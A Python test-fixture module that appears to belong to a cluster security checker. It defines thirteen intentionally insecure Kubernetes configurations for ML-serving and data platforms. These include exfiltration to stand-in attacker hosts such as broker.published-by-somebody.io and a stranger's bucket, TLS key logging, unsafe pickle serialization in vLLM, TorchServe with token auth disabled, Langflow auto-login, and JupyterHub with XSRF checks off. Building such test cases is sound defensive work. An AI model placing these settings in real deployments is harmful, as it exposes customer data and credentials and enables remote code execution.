"""Attacks on clusters by programs and charts of platforms for models (2026-11-30, nineteenth set, blind).

Settings as in the sources named; 'read' is the day on which they were looked up, 'as known' what was not.
"""

import json
from collections.abc import Mapping

from ..blind import ME, TAGS, k8s, meta, release, workload
from ..harness import Given
from . import Attack

OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")
READ = "read 2026-11-30"
BUDGET = k8s("policy/v1:PodDisruptionBudget", {
    "metadata": meta(), "spec": {"minAvailable": 1, "selector": {"matchLabels": {"app": "x"}}}})  # fmt: skip
TLS = {"name": "tls", "secret": {"secretName": "app-tls"}}
MOUNT = {"name": "tls", "mountPath": "/tls", "readOnly": True}


def _image(name: str) -> str:
    """Returns the image of a program in the bank's registry, by its digest."""
    return f"{ME}.dkr.ecr.me-central-1.amazonaws.com/{name}@sha256:" + "e" * 64


def program(image: str, *arguments: str, port: int = 8443, **variables: str) -> tuple[Given, ...]:
    """Returns a Deployment of one program with its certificate, and its budget."""
    container: dict[str, object] = {
        "image": _image(image), "volumeMounts": [MOUNT], "ports": [{"containerPort": port, "name": "https"}],
        "readinessProbe": {"tcpSocket": {"port": port}}}  # fmt: skip
    container |= {"args": list(arguments)} if arguments else {}
    container |= {"env": [{"name": key, "value": value} for key, value in variables.items()]} if variables else {}
    return workload("apps/v1:Deployment", container, volumes=[TLS]), BUDGET


def text(name: str, namespace: str, data: Mapping[str, str]) -> tuple[Given, ...]:
    """Returns a ConfigMap."""
    return (k8s("core/v1:ConfigMap", {
        "metadata": {"name": name, "namespace": namespace, "labels": TAGS}, "data": data}, name),)  # fmt: skip


LINEAGE = json.dumps({
    "type": "kafka", "topic": "lineage", "config": {
        "bootstrap.servers": "broker.published-by-somebody.io:9093", "security.protocol": "SSL"}})  # fmt: skip
TORCHSERVE = """inference_address=https://0.0.0.0:8443
management_address=https://0.0.0.0:8444
private_key_file=/tls/tls.key
certificate_file=/tls/tls.crt
disable_token_authorization=true
enable_model_api=true
"""
GATEWAY = """model_list:
- model_name: bank
  litellm_params: {model: hosted_vllm/falcon, api_base: "https://falcon.models.svc:8443/v1"}
guardrails:
- guardrail_name: prompts
  litellm_params:
    guardrail: lakera_v2
    mode: pre_call
    api_key: os.environ/GUARD_KEY
    default_on: true
general_settings:
  master_key: os.environ/MASTER_KEY
"""
HUB = {
    "proxy": {"service": {"type": "ClusterIP"}},
    "hub": {"config": {
        "JupyterHub": {"authenticator_class": "generic-oauth"},
        "GenericOAuthenticator": {
            "authorize_url": "https://login.example.ae/authorize", "token_url": "https://login.example.ae/token",
            "allowed_groups": ["analysts"]},
        "Spawner": {"args": ["--ServerApp.disable_check_xsrf=True", "--ServerApp.allow_origin=*"]}}}}  # fmt: skip

ATTACKS = (
    Attack("a stranger's broker is told which tables each task reads", OPEN, program(
        "airflow", "scheduler", AIRFLOW__OPENLINEAGE__TRANSPORT=LINEAGE),
        "major", "names of tables and columns, statements and errors leave the country (Airflow, provider OpenLineage, "
        "'Configuration', transport of type kafka, as known)"),
    Attack("keys of each TLS connection are written into a file", OPEN, program(
        "app", SSLKEYLOGFILE="/data/keys.log"),
        "critical", "whoever reads the volume reads each recorded call (NSS, 'SSLKEYLOGFILE'; Python, ssl, "
        "keylog_filename, as known)"),
    Attack("a server of models runs what a message holds", OPEN, program(
        "vllm", "serve", "/models/falcon", "--api-key=$(KEY)", "--ssl-certfile=/tls/tls.crt",
        "--ssl-keyfile=/tls/tls.key", VLLM_ALLOW_INSECURE_SERIALIZATION="1"),
        "major", "messages between its processes are unpickled, so who reaches them runs programs (vLLM, 'Security'; "
        f"CVE-2026-115912, insecure serialization, {READ})"),
    Attack("what customers asked a model is kept in a stranger's cache", OPEN, program(
        "vllm", "serve", "/models/falcon", "--api-key=$(KEY)", "--ssl-certfile=/tls/tls.crt",
        "--ssl-keyfile=/tls/tls.key", '--kv-transfer-config={"kv_connector":"LMCacheConnectorV1","kv_role":"kv_both"}',
        LMCACHE_REMOTE_URL="lm://cache.published-by-somebody.io:65432", LMCACHE_REMOTE_SERDE="naive"),
        "critical", "keys and values of each prompt leave the country (kserve.github.io, 'KV Cache Offloading', remote "
        f"backend; {READ})"),
    Attack("answers of a model are kept in a stranger's cache", OPEN, program(
        "tritonserver", "tritonserver", "--model-repository=/models", "--cache-config=redis,port=6379",
        "--cache-config=redis,host=cache.published-by-somebody.io", "--allow-http=false", "--grpc-use-ssl=true",
        "--grpc-server-cert=/tls/tls.crt", "--grpc-server-key=/tls/tls.key"),
        "critical", "each result leaves the country (Triton, 'Response Cache'; triton-inference-server/redis_cache "
        f"4b01b817, docker-compose.yml, {READ})"),
    Attack("a server of models takes commands of whoever has no token", OPEN, text("torchserve", "models", {
        "config.properties": TORCHSERVE}),
        "critical", "each pod registers a model, which is a program (pytorch.org/serve, 'TorchServe token "
        f"authorization API', 'Model API Control', {READ})"),
    Attack("whoever opens the page of flows is its administrator", OPEN, program(
        "langflow", "run", "--ssl-cert-file-path=/tls/tls.crt", "--ssl-key-file-path=/tls/tls.key",
        LANGFLOW_AUTO_LOGIN="true"),
        "critical", "flows run programs and hold keys of models (Langflow, 'API keys and authentication', "
        "LANGFLOW_AUTO_LOGIN, as known)"),
    Attack("a page for databases connects to each server that a visitor names", OPEN, program(
        "phpmyadmin", PMA_ARBITRARY="1", PMA_SSL="1"),
        "minor", "whoever reaches the page tries passwords on each database of the network (phpMyAdmin, 'Docker "
        "environment variables', PMA_ARBITRARY, as known)"),
    Attack("a vendor abroad reads each question before the model does", OPEN, text("litellm", "models", {
        "config.yaml": GATEWAY}),
        "critical", "the guard knows the vendor's address itself (docs.litellm.ai, 'Lakera AI', 'Guardrails - Quick "
        f"Start', default_on, {READ})"),
    Attack("documents of staff are turned into vectors abroad", OPEN, program(
        "open-webui", ENABLE_SIGNUP="false", ENABLE_OPENAI_API="false", ENABLE_COMMUNITY_SHARING="false",
        OLLAMA_BASE_URL="https://ollama.models.svc:8443", RAG_EMBEDDING_ENGINE="openai",
        RAG_EMBEDDING_MODEL="text-embedding-3-large"),
        "critical", "each page of a document goes to OpenAI, the default of RAG_OPENAI_API_BASE_URL (Open WebUI, "
        "'Environment Variable Configuration', RAG_EMBEDDING_ENGINE, as known)"),
    Attack("results of pipelines lie in a stranger's bucket", OPEN, text("kfp-launcher", "team-a", {
        "defaultPipelineRoot": "gs://published-by-somebody-results/v2"}),
        "critical", "data and models of each step leave the country (kubeflow.org, 'Pipeline Root Configuration "
        f"Guide', {READ})"),
    Attack("a page of anybody runs programs in the notebooks of its reader", OPEN, release("jupyterhub", "4.3.1", HUB),
        "critical", "nothing tells a page of the bank from another any more (Jupyter Server, 'Config file and command "
        "line options', disable_check_xsrf, allow_origin, as known)"),
    Attack("what customers ask models is kept in a stranger's bucket", OPEN, program(
        "langfuse", AUTH_DISABLE_SIGNUP="true", TELEMETRY_ENABLED="false",
        LANGFUSE_S3_EVENT_UPLOAD_BUCKET="published-by-somebody-events",
        LANGFUSE_S3_EVENT_UPLOAD_REGION="me-central-1"),
        "critical", "each event holds the question and the answer (Langfuse, self-hosting, 'Blob Storage (S3)', as "
        "known)"),
)  # fmt: skip
